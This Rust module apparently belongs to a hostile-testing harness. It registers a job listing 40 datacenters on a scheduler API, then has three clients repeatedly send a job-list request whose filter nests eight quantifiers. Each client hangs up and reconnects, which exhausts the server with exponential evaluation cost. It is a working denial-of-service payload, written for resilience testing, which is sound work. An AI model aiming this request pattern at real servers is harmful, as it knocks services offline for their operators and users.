//! Lists with filters whose cost grows exponentially with their depth.

use std::time::Duration;

use hyper::Method;
use serde_json::{Value, json};
use tokio::{task::JoinSet, time::sleep};

use crate::run::{RunError, hostile::attacked_server::AttackedServer};

/// Values that each level of the filter goes through, and levels.
const VALUES: usize = 40;
const DEPTH: usize = 8;
/// Clients, each with an address of its own.
const CLIENTS: u8 = 3;
/// Until a client hangs up, and until it comes back.
const STAYS: Duration = Duration::from_millis(200);
const COMES_BACK_AFTER: Duration = Duration::from_secs(1);

/// A job with something to go through.
pub(super) async fn prepare(attacked: &AttackedServer) -> Result<(), RunError> {
    let datacenters: Vec<String> = (0..VALUES).map(|number| format!("dc{number}")).collect();
    let job = json!({
        "ID": "many-datacenters",
        "Datacenters": datacenters,
        "TaskGroups": [{"Name": "group", "Count": 0, "Tasks": [{"Name": "task", "Driver": "mock_driver"}]}],
    });
    let reason = |reason| RunError::Http { doing: "register a job with many datacenters".to_owned(), reason };
    attacked.register(&job).await.map_err(reason)
}

/// Requests, hangs up, and requests again.
pub(super) async fn carry_out(attacked: AttackedServer) -> String {
    // A filter that is refused at once is no attack.
    let shallow = attacked.request(Method::GET, &path(1), &Value::Null).await;
    let understood = shallow.is_ok_and(|reply| reply.status.is_success());
    let mut clients = JoinSet::new();
    for client in 0..CLIENTS {
        let attacked = attacked.clone();
        clients.spawn(async move {
            let (head, mut sent) = (format!("GET {}", path(DEPTH)), 0_u32);
            while !attacked.is_over() {
                let connection = attacked.http(2 + client, &head).await;
                sent += u32::from(connection.is_ok());
                sleep(STAYS).await;
                drop(connection);
                sleep(COMES_BACK_AFTER).await;
            }
            sent
        });
    }
    let sent: u32 = clients.join_all().await.into_iter().sum();
    format!(
        "{sent} lists with {DEPTH} nested quantifiers over {VALUES} values; one alone is understood: {understood}"
    )
}

fn path(depth: usize) -> String {
    let filter = (0..depth).rev().fold(format!("v0 != \"x{depth}\""), |inner, level| {
        format!("all Datacenters as v{level} {{ {inner} }}")
    });
    let plain = |byte: u8| byte.is_ascii_alphanumeric();
    let escaped: String = filter
        .bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect();
    format!("/v1/jobs?filter={escaped}")
}
